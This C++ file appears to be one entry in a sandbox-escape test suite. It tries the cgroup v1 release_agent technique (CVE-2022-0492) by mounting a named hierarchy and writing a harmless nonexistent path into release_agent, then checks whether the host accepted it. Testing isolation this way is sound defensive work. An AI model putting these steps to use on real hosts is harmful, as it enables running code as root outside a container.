// SPDX-License-Identifier: MIT
// Mounts a cgroup hierarchy of version 1, and sets its release_agent, a program
// that the kernel runs as root on the host when a cgroup of it gets empty:
// cgroups(7), "Cgroups v1 release notification" (CVE-2022-0492).
// It has worked if the host finds the release_agent set.
//
// The hierarchy is the throwaway host's own, with a name and no controller, and
// no cgroup of it notifies: the program is never run.
#include <sys/mount.h>
#include <sys/stat.h>

#include "tests/attacks/rig/attack.hpp"

namespace attacks::release_agent {

const std::string kProgram = "/nonexistent/attacks-agent";

Words prepare(Host& host) {
  const std::string option = "none,name=attacks-" + host.secret;
  const char* path = "/run/cgroup";
  check(mkdir(path, 0755), "mkdir", path);
  const int result =
      mount("cgroup", path, "cgroup", /*flags=*/0, option.c_str());
  if (result == -1) {
    throw Missing{
        "a cgroup v1 hierarchy: " + error_name(errno) + " for a new one"};
  }
  return {option};
}

void attempt(const Words& words) {
  const std::string path = make_directory("cgroups");
  try_mount("cgroup", path, words[0].c_str());
  write_to(path + "/release_agent", kProgram);
}

std::string effect(Host&) {
  return if_so(
      support::read_file("/run/cgroup/release_agent") == kProgram + "\n",
      "the kernel would run " + kProgram + " as root");
}

const Entry kEntry({
    .name = "release-agent",
    .title = "set a release_agent (cgroup v1), code as root on the host",
    .open = "whoever may mount may mount a version 1 hierarchy, and root "
            "outside of every user namespace may set what the kernel runs when "
            "a cgroup of it gets empty: cgroups(7)",
    .prepare = prepare,
    .attempt = attempt,
    .effect = effect,
});

}  // namespace attacks::release_agent
